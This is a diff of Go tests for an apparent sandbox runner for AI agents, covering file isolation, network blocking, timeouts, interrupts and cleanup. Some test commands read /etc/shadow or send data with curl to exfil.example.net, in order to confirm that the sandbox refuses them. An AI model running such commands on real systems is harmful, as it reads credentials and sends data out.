@@ -36,8 +36,8 @@ func TestRunPassesTheAgentThrough(t *testing.T) {
 		{"its output", "echo out; echo err >&2", nil, 0, "out\n"},
 		{"a sandbox's identity", "echo $IS_SANDBOX $HOME $PWD; touch $HOME/x /tmp/x /workspace/x && echo writable", nil, 0, "1 /home/agent /workspace\nwritable\n"},
 		{"variables", "echo $A", []string{"--env", "A=b c"}, 0, "b c\n"},
-		{"no host files", "ls /root /var/lib 2>/dev/null; cat /etc/shadow 2>/dev/null; echo end", nil, 0, "end\n"},
-		{"nothing to a network of none", "curl -sS -m 5 https://api.openai.com/ 2>/dev/null || echo none", []string{"--network", "none"}, 0, "none\n"},
+		{"no host files", "ls -A /root /var/lib /run 2>/dev/null | grep -v -e : -e '^$'; cat /etc/shadow 2>/dev/null; echo end", nil, 0, "end\n"},
+		{"nothing to a network of none", "curl -sS -m 5 https://api.openai.com/ 2>&1 | grep -o 'is off'", []string{"--network", "none"}, 0, "is off\n"},
 	}
 	for _, tt := range tests {
 		t.Run("it passes "+tt.name, func(t *testing.T) {
@@ -46,6 +46,9 @@ func TestRunPassesTheAgentThrough(t *testing.T) {
 				t.Errorf("exit %d, stdout %q; want %d, %q\nstderr: %s", r.code, r.stdout, tt.code, tt.stdout, r.stderr)
 			}
 		})
+	}
+	if n := len(w.requests()); n != 0 {
+		t.Errorf("%d requests arrived, want none", n)
 	}
 }
 
@@ -91,7 +94,7 @@ func TestRunFaults(t *testing.T) {
 		stderr string
 	}{
 		{"a command that is not there", "name: faulty\ncommand: no-such-command\n", nil, 127, "no-such-command"},
-		{"a time that is up", "name: faulty\ncommand: sleep 60\n", []string{"--timeout", "1s"}, 125, "time"},
+		{"a time that is up", "name: faulty\ncommand: sleep 60\n", []string{"--timeout", "1s"}, 124, "took longer than 1s"},
 		{"a network mode", "name: faulty\ncommand: 'true'\n", []string{"--network", "open"}, 1, "none, bound or public"},
 		{"a secret that is not set", "name: faulty\ncommand: 'true'\nsecrets: [A_KEY, B_KEY]\n", nil, 1,
 			"Error: Missing required secret(s): A_KEY, B_KEY\nSet them with:\n  superserve secrets set faulty A_KEY=... B_KEY=...\n"},
@@ -117,7 +120,7 @@ func TestRunFaults(t *testing.T) {
 func TestRefusedDestinationsAreReadable(t *testing.T) {
 	w := newWorld(t, "api.openai.com")
 	r := w.run(agentProject(t, `for i in 1 2 3; do curl -s https://exfil.example.net/x?d=1; done`, "network: {allow: []}\n"))
-	if !strings.Contains(r.stdout, "exfil.example.net") || !strings.Contains(r.stdout, "{") {
+	if strings.Count(r.stdout, "destination_refused") != 3 {
 		t.Errorf("the agent read %q, want a refusal in JSON", r.stdout)
 	}
 	if n := strings.Count(r.stderr, "exfil.example.net"); n != 1 {
@@ -203,8 +206,19 @@ func TestSignalsReachTheAgent(t *testing.T) {
 
 func TestInterruptEndsTheRun(t *testing.T) {
 	w := newWorld(t, "api.example.com")
-	kill, wait := w.background(t, agentProject(t, `echo ready; sleep 1000`))
+	kill, wait := w.background(t, agentProject(t, `echo ready; exec sleep 1000`))
 	kill(os.Interrupt)
+	if r := wait(); r.code != 130 {
+		t.Errorf("exit %d, want 130\nstderr: %s", r.code, r.stderr)
+	}
+}
+
+// TestSecondInterruptInsists ends an agent that ignores the first.
+func TestSecondInterruptInsists(t *testing.T) {
+	w := newWorld(t, "api.example.com")
+	kill, wait := w.background(t, agentProject(t, `trap '' INT TERM; echo ready; while :; do sleep 0.1; done`))
+	kill(os.Interrupt)
+	kill(syscall.SIGTERM) // not the same again: two of a kind that wait for delivery are one
 	if r := wait(); r.code != 130 {
 		t.Errorf("exit %d, want 130\nstderr: %s", r.code, r.stderr)
 	}
@@ -233,7 +247,7 @@ func TestPsLogsAndStop(t *testing.T) {
 // TestRunLeavesNothing counts what a run could leave: processes, mounts and cgroups.
 func TestRunLeavesNothing(t *testing.T) {
 	w := newWorld(t, "api.example.com")
-	w.run(agentProject(t, "true")) // starts secretd, which stays
+	w.run(agentProjectAt(t, w, "true"))
 	before := traces(t)
 	for _, ending := range []os.Signal{syscall.SIGTERM, os.Interrupt, syscall.SIGKILL} {
 		kill, wait := w.background(t, agentProjectAt(t, w, `echo ready; read x`), "--env", "N=1")
